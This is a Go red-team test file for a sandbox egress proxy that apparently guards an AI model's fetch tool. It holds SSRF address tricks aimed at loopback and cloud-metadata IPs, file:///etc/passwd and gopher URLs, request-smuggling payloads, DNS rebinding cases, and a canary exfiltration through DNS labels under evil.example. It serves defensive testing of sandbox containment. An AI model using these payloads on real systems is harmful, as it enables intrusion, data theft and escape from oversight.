package redteam

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"

	"boxmaker/internal/proto"
)

// forgedRequests: a name that is granted may lead anywhere, and an address can be
// written in many ways.
func forgedRequests(w *walker) []attempt {
	const ok, bad, no, private, none = proto.EgressPassed, proto.EgressBadRequest, proto.EgressNotAllowed, proto.EgressPrivate, proto.EgressNoAddress
	rows := []attempt{
		w.raw("control: a public name", getting("http://public.example/"), ok, "93.184.216.34:80"),
		w.raw("control: IPv6", getting("http://public6.example/"), ok, "[2606:2800:220:1::34]:80"),
		w.raw("control: a wildcard", getting("http://a.wild.example/"), ok, "93.184.216.34:80"),
		w.raw("control: a local name", getting("http://nas.example/"), ok, "192.168.0.1:80"),
		w.raw("control: a local address", getting("http://192.168.0.2/"), ok, "192.168.0.2:80"),
		fetches("control: http_fetch", "http://public.example/", all(shows("REACHED 93.184.216.34:80"), recorded("public.example:80 passed")), ""),
		fetches("control: http_fetch over TLS", "https://public.example/", all(shows("REACHED 93.184.216.34:443"), recorded("public.example:443 passed")), ""),
		w.asksAt("control: the proxy's port", 1, "tcp", "127.0.0.1:3128", all(shows("REACHED 93.184.216.34:80"), recorded("public.example:80 passed")), getting("http://public.example/")),

		w.raw("the name a wildcard is below", getting("http://wild.example/"), no, ""),
		w.raw("a name that ends like a wildcard", getting("http://evilwild.example/"), no, ""),
		w.raw("another name", getting("http://evil.example/"), no, ""),
		w.raw("a look-alike", getting("http://xn--pblic-kva.example/"), no, ""),
		w.raw("a name that begins like one", getting("http://public.example.evil.example/"), no, ""),
		w.raw("a star in the name", getting("http://*.wild.example/"), bad, ""),
		w.raw("another address", getting("http://93.184.216.35/"), no, ""),
		w.raw("another port", getting("http://public.example:8080/"), no, ""),
		w.raw("port 0", getting("http://public.example:0/"), bad, ""),
		w.raw("port with zeros", getting("http://public.example:00080/"), bad, ""),
		w.raw("a port that wraps around", getting("http://public.example:65616/"), bad, ""),
		w.raw("CONNECT to ssh", tunnelling("public.example:22"), no, ""),
		w.raw("CONNECT to another port", tunnelling("public6.example:443"), no, ""),
		w.raw("a local name at another port", getting("http://nas.example:8080/"), no, ""),
		w.raw("the address of a local name", getting("http://192.168.0.1/"), no, ""),
		w.raw("a local name that turned to metadata", getting("http://nasmeta.example/"), private, ""),
		w.raw("a local name that turned to 0.0.0.0", getting("http://naszero.example/"), private, ""),
		w.raw("no such name", getting("http://gone.example/"), none, ""),
		w.raw("a dot at the end", getting("http://public.example./"), ok, "93.184.216.34:80"),
		w.raw("two dots at the end", getting("http://public.example../"), bad, ""),
		w.raw("upper case", getting("http://PUBLIC.Example/"), ok, "93.184.216.34:80"),

		w.raw("a private address behind a name", getting("http://intranet.example/"), private, ""),
		w.raw("public and private", getting("http://mixed.example/"), private, ""),
		w.raw("public and private IPv6", getting("http://mixed6.example/"), private, ""),
		w.raw("private, allowed and not local", getting("http://10.0.0.1/"), private, ""),
		w.raw("loopback, allowed and not local", getting("http://127.0.0.1/"), private, ""),
		w.raw("loopback 6, allowed and not local", getting("http://[::1]/"), private, ""),
		w.raw("metadata, allowed and not local", getting("http://169.254.169.254/"), private, ""),

		w.raw("a user", getting("http://public.example@10.0.0.1/"), bad, ""),
		w.raw("a user and a port", getting("http://public.example:80@10.0.0.1/"), bad, ""),
		w.raw("an escaped @", getting("http://public.example%4010.0.0.1/"), bad, ""),
		w.raw("a backslash", getting(`http://public.example\@10.0.0.1/`), bad, ""),
		w.raw("@ in a tunnel", tunnelling("public.example:443@10.0.0.1:80"), bad, ""),
		w.raw("a second URL", getting("http://public.example http://10.0.0.1/"), bad, ""),
		w.raw("full-width digits", getting("http://１２７.0.0.1/"), bad, ""),
		w.raw("another kind of dot", getting("http://127。0。0。1/"), bad, ""),
		w.raw("a zone", getting("http://[fe80::1%25lo]/"), bad, ""),
		w.raw("a mapped address", getting("http://[::ffff:93.184.216.34]/"), no, ""),
		w.raw("a mapped loopback", getting("http://[::ffff:7f00:1]/"), no, ""),
		w.raw("NUL in the name", getting("http://public.example\x00.evil.example/"), bad, ""),
		w.raw("a line break in the name", tunnelling("public.example\r\n:443"), bad, ""),
		w.raw("a tab in the name", getting("http://public.example\t.evil.example/"), bad, ""),
	}
	for _, a := range []string{"2130706433", "1572395042", "0177.0.0.1", "0x7f.1", "0x7f000001", "127.1", "0", "127.0.0.01", "1.2.3.4.5", "017700000001", "0300.0250.0.1", "93.184.55330"} {
		rows = append(rows, w.raw("the number "+a, getting("http://"+a+"/"), bad, ""))
	}
	for _, a := range []string{
		"127.0.0.1", "10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "100.101.102.103", "100.100.100.200", "169.254.1.1", "169.254.169.254", "168.63.129.16", "198.18.0.1",
		"192.0.2.1", "203.0.113.1", "240.0.0.1", "224.0.0.1", "0.0.0.0", "z--1", "z--0", "z--ffff-7f00-1", "z--ffff-a00-1", "zfd12-3456--1", "zfd00-ec2--254", "z64-ff9b--7f00-1",
		"z2002-7f00-1--1", "z2001-0-1--1", "z2001-db8--1", "zfe80--1", "zfec0--1", "zff02--1", "z--7f00-1",
		"93.185.0.1", "93.185.0.77", "z2606-2800-221-1--1", "z2606-2800-221-1--77", // in networks of the machine, which look public
	} {
		rows = append(rows, w.raw("a name that resolves to "+a, getting("http://"+a+".nip.example/"), private, ""))
	}
	const inv, nogrant = proto.CodeInvalidArguments, proto.CodeNoGrant
	for _, u := range []string{
		"http://public.example@10.0.0.1/", "http://public.example:80@10.0.0.1/", "http://10.0.0.1#@public.example/../", `http://public.example\@10.0.0.1/`, "http://2130706433/", "http://0177.0.0.1/",
		"http://0x7f.1/", "http://127.1/", "http://[fe80::1%25lo]/", "http://public.example../", "http://pubⅼic.example/", "http://públic.example/", "http://public.example%2eevil.example/", "http:public.example/",
		"//public.example/", "file:///etc/passwd", "gopher://10.0.0.1/", "ftp://public.example/", "http://public.example:0/", "http://public.example:65616/", "unix:///run/egress.sock", "http://*.wild.example/",
		"http://public.example\r\nHost: evil.example/", "http://public.example:80:80/", "http:///public.example/", "javascript:alert(1)", "http://public\u200b.example/",
	} {
		rows = append(rows, fetches("http_fetch "+u, u, nil, inv, nogrant))
	}
	for _, u := range []string{"http://intranet.example/", "http://mixed.example/", "http://127.0.0.1/", "http://[::1]/", "http://169.254.169.254/latest/", "http://z--1.nip.example/", "http://10.0.0.1/"} {
		rows = append(rows, fetches("http_fetch "+u, u, shows("private"), nogrant))
	}
	return rows
}

func redirects(w *walker) []attempt {
	const nogrant, failed = proto.CodeNoGrant, proto.CodeToolFailed
	from := func(to string) string { return "http://public.example/to?" + url.QueryEscape(to) }
	rows := []attempt{
		fetches("control: to a granted host", from("http://a.wild.example/x"), all(shows("REACHED 93.184.216.34:80 host a.wild.example"), recorded("public.example:80 passed", "a.wild.example:80 passed")), ""),
		fetches("control: from http to https", from("https://public.example/"), all(shows("REACHED 93.184.216.34:443"), recorded("public.example:80 passed", "public.example:443 passed")), ""),
		fetches("from https to http", "https://public.example/to?"+url.QueryEscape("http://public.example/"), recorded("public.example:443 passed"), failed),
		fetches("without end", "http://public.example/around?", nil, failed),
		fetches("the model's words in the address", from("http://public.example/\r\nX-Injected: 1"), recorded("public.example:80 passed", "public.example:80 passed"), ""),
		{name: "of a POST's body to another host", tool: "http_fetch", args: obj{"url": "http://public.example/to307?" + url.QueryEscape("http://a.wild.example/"), "method": "POST", "body": "x"}, want: []proto.Code{failed}, check: recorded("public.example:80 passed")},
		{name: "of headers to another host", tool: "http_fetch", args: obj{"url": from("http://a.wild.example/headers"), "headers": obj{"Authorization": "model-own", "X-Api-Key": "model-own"}}, want: []proto.Code{""}, check: func(r *rig, _ *proto.CallResult) {
			got, _ := w.web.since(0)
			for _, v := range got {
				if v.path == "/headers" && (v.auth != "" || v.header.Get("X-Api-Key") != "") {
					r.t.Errorf("headers went along: %+v", v)
				}
			}
		}},
	}
	for _, to := range []struct{ url, row string }{
		{"http://evil.example/", "evil.example:80 not-allowed"},
		{"http://10.0.0.1/", "10.0.0.1:80 private"},
		{"http://169.254.169.254/latest/meta-data/", "169.254.169.254:80 private"},
		{"http://intranet.example/", "intranet.example:80 private"},
		{"http://public.example:8080/", "public.example:8080 not-allowed"},
		{"http://public.example:22/", "public.example:22 not-allowed"},
		{"//evil.example/", "evil.example:80 not-allowed"},
		{"http://[::ffff:127.0.0.1]/", "[::ffff:127.0.0.1]:80 not-allowed"},
		{"http://EVIL.example./", "evil.example:80 not-allowed"},
		{"http://127.0.0.1.nip.example/", "127.0.0.1.nip.example:80 private"},
	} {
		rows = append(rows, fetches("to "+to.url, from(to.url), all(lacks("REACHED"), recorded("public.example:80 passed", to.row)), nogrant))
	}
	for _, to := range []string{"http://public.example@10.0.0.1/", "http://2130706433/", "http://0x7f.1/", "file:///etc/passwd", "gopher://10.0.0.1:22/_x", "http://127.1/", "unix:/run/egress.sock", "http:10.0.0.1", `http://public.example\@10.0.0.1/`} {
		rows = append(rows, fetches("to "+to, from(to), lacks("REACHED 10.", "root:"), "", failed, nogrant))
	}
	return append(rows,
		fetches("rebinding, first", "http://rebind.example/", recorded("rebind.example:80 passed"), ""),
		fetches("rebinding, second", "http://rebind.example/", recorded("rebind.example:80 private"), nogrant),
		w.asks("rebinding, many at once", 8, func(r *rig, res *proto.CallResult) {
			r.t.Helper()
			rows := r.outcome(res.ID).Egress
			for _, c := range rows {
				if c.Address != "" && c.Address != "93.184.216.34:80" {
					r.t.Errorf("%+v", c)
				}
			}
			if len(rows) != 24 || !strings.Contains(res.Text, "REACHED 93.184.216.34") || !strings.Contains(res.Text, "private") {
				r.t.Errorf("%d rows: %.300s", len(rows), res.Text)
			}
		}, repeat(getting("http://rebind2.example/"), 24)...),
	)
}

func repeat(s string, n int) (all []string) {
	for range n {
		all = append(all, s)
	}
	return all
}

// smuggling: what one reader takes for a body and another for a request.
func smuggling(w *walker) []attempt {
	const bad, ok = proto.EgressBadRequest, proto.EgressPassed
	const post, more = "POST http://public.example/marker HTTP/1.1\r\n", "GET http://public.example/smuggled HTTP/1.1\r\nHost: public.example\r\n\r\n"
	rows := []attempt{
		w.raw("control: a length", post+"Content-Length: 4\r\n\r\nabcd", ok, "93.184.216.34:80"),
		w.asks("a request after the body", 1, recorded("public.example:80 passed"), post+"Content-Length: 4\r\n\r\nabcd"+more),
		w.asks("a request after a GET", 1, recorded("public.example:80 passed"), getting("http://public.example/")+more),
		w.raw("Host says otherwise", "GET http://public.example/host-marker HTTP/1.1\r\nHost: evil.example\r\n\r\n", ok, "93.184.216.34:80"),
		w.raw("Host private, URL public", "GET http://10.0.0.1/ HTTP/1.1\r\nHost: public.example\r\n\r\n", proto.EgressPrivate, ""),
		w.asks("SNI and Host in a tunnel", 1, recorded("public.example:443 passed"), tunnelling("public.example:443")+"\x16\x03\x01\x00\x05hello"),
	}
	for name, text := range map[string]string{
		"both framings":                 post + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + more,
		"chunks":                        post + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + more,
		"chunks, disguised":             post + "Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + more,
		"chunks with a space":           post + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + more,
		"chunks with a tab":             post + "Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n" + more,
		"two lengths":                   post + "Content-Length: 4\r\nContent-Length: 0\r\n\r\nabcd" + more,
		"the same length twice":         post + "Content-Length: 4, 4\r\n\r\nabcd" + more,
		"a length with a sign":          post + "Content-Length: +4\r\n\r\nabcd",
		"a negative length":             post + "Content-Length: -4\r\n\r\nabcd",
		"a length in hex":               post + "Content-Length: 0x4\r\n\r\nabcd",
		"a huge length":                 post + "Content-Length: 99999999999999999999\r\n\r\nabcd",
		"a length in other digits":      post + "Content-Length: ٤\r\n\r\nabcd",
		"bare line feeds":               strings.ReplaceAll(more, "\r\n", "\n"),
		"one bare line feed":            post + "X: y\nContent-Length: 0\r\n\r\n" + more,
		"a bare carriage return":        post + "X: y\rContent-Length: 4\r\n\r\nabcd",
		"a folded field":                post + "X: y\r\n Content-Length: 4\r\n\r\nabcd",
		"a folded first field":          post + " Content-Length: 4\r\n\r\nabcd",
		"NUL in a field":                post + "X: a\x00b\r\n\r\n",
		"a field without a name":        post + ": x\r\n\r\n",
		"a field without a colon":       post + "smuggled\r\n\r\n",
		"two Hosts":                     "GET http://public.example/ HTTP/1.1\r\nHost: public.example\r\nHost: evil.example\r\n\r\n",
		"no URL":                        "GET /smuggled HTTP/1.1\r\nHost: public.example\r\n\r\n",
		"a star":                        "OPTIONS * HTTP/1.1\r\nHost: public.example\r\n\r\n",
		"https without a tunnel":        "GET https://public.example/smuggled HTTP/1.1\r\n\r\n",
		"another scheme":                "GET gopher://10.0.0.1:22/_x HTTP/1.1\r\n\r\n",
		"the preface of HTTP/2":         "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
		"HTTP/2 by upgrade":             "GET http://public.example/smuggled HTTP/1.1\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAAA\r\n\r\n",
		"WebSocket":                     "GET http://public.example/smuggled HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n",
		"an old version":                "GET http://public.example/smuggled HTTP/0.9\r\n\r\n",
		"a version of the future":       "GET http://public.example/smuggled HTTP/3.0\r\n\r\n",
		"no version":                    "GET http://public.example/smuggled\r\n\r\n",
		"TRACE":                         "TRACE http://public.example/smuggled HTTP/1.1\r\n\r\n",
		"a method in lower case":        "get http://public.example/smuggled HTTP/1.1\r\n\r\n",
		"CONNECT to a URL":              tunnelling("http://public.example:443/"),
		"CONNECT without a port":        tunnelling("public.example"),
		"an empty CONNECT":              tunnelling(""),
		"a head without end":            "GET http://public.example/smuggled HTTP/1.1\r\nX: " + strings.Repeat("a", 40<<10) + "\r\n\r\n",
		"more fields than there can be": "GET http://public.example/smuggled HTTP/1.1\r\n" + strings.Repeat("X: y\r\n", 200) + "\r\n",
		"SOCKS 5":                       "\x05\x01\x00\r\n\r\n",
		"TLS to the proxy":              "\x16\x03\x01\x00\x05hello\r\n\r\n",
	} {
		rows = append(rows, w.raw(name, text, bad, ""))
	}
	return append(rows, act("fields for proxies stay here", func(r *rig) {
		res := r.call("run", obj{"argv": []string{r.attacker(), "ask", "1", "tcp", thePort, fmt.Sprintf("%q",
			"GET http://public.example/fields HTTP/1.1\r\nProxy-Authorization: Basic eA==\r\nProxy-Connection: keep-alive\r\nX-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Host: evil.example\r\nForwarded: for=127.0.0.1\r\n"+
				"X-Real-IP: 127.0.0.1\r\nTE: trailers\r\nConnection: X-Secret-Hop\r\nX-Secret-Hop: 1\r\nVia: 1.1 x\r\n\r\n")}})
		shows("REACHED 93.184.216.34:80")(r, res)
		seen := false
		got, _ := w.web.since(0)
		for _, v := range got {
			if v.path == "/host-marker" && v.host != "public.example" {
				r.t.Errorf("Host arrived as %q", v.host)
			}
			if v.path != "/fields" {
				continue
			}
			seen = true
			for _, h := range []string{"Proxy-Authorization", "Proxy-Connection", "X-Forwarded-For", "X-Forwarded-Host", "Forwarded", "X-Real-Ip", "Te", "X-Secret-Hop"} {
				if v.header.Get(h) != "" {
					r.t.Errorf("%s arrived: %q", h, v.header.Get(h))
				}
			}
		}
		if !seen {
			r.t.Error("control: the request did not arrive")
		}
	}))
}

// namesAsData: what stands in a name that is looked up has left the machine.
func namesAsData(w *walker) []attempt {
	data := strings.ToLower(strings.TrimRight(base64.StdEncoding.EncodeToString([]byte("canary of the owner")), "="))
	unasked := func(r *rig, _ *proto.CallResult) {
		r.t.Helper()
		for _, name := range w.web.names.Asked() {
			if strings.Contains(name, data) {
				r.t.Errorf("asked for %s", name)
			}
		}
	}
	rows := []attempt{act("control: the name server remembers", func(r *rig) {
		r.call("http_fetch", obj{"url": "http://seen.wild.example/"})
		if w.web.names.Times("seen.wild.example") == 0 {
			r.t.Error("it was not asked")
		}
	})}
	for _, name := range []string{"evil.example", "public.example", "wild.example.evil.example", "10.0.0.1.example", "example", "wild.example.", "api.example", "localhost"} {
		if name != "wild.example." {
			rows = append(rows, w.asks("a label below "+name, 1, all(unasked, shows("not-allowed")), getting("http://"+data+"."+name+"/")))
		}
		rows = append(rows, fetches("http_fetch of a label below "+name, "http://"+data+"x."+strings.TrimPrefix(name, "wild.example.")+"/", unasked, proto.CodeNoGrant))
	}
	return append(rows,
		w.asks("a label and another port", 1, all(unasked, shows("not-allowed")), tunnelling(data+".wild.example:443")),
		w.asks("a label longer than labels are", 1, all(unasked, shows("bad-request")), getting("http://"+strings.Repeat(data, 4)+".wild.example/")),
		w.attack("the name server by UDP", unasked, "dial", "udp", w.web.names.Addr, "127.0.0.1:53", "93.184.216.34:53"),
		w.attack("the name server by TCP", all(unasked, says([]string{"ECONNREFUSED"}, "tcp "+w.web.names.Addr)), "dial", "tcp", w.web.names.Addr),
		w.attack("a look-up of the program's own", unasked, "dial", "tcp", data+".evil.example:80"),
		sh("look-ups of a shell", "getent hosts "+data+".evil.example; getent ahosts "+data+".public.example; cat /etc/resolv.conf /etc/hosts 2>/dev/null", all(unasked, lacks("93.184"))),
		fetches("a redirect to a label", "http://public.example/to?"+url.QueryEscape("http://"+data+".evil.example/"), unasked, proto.CodeNoGrant),
	)
}
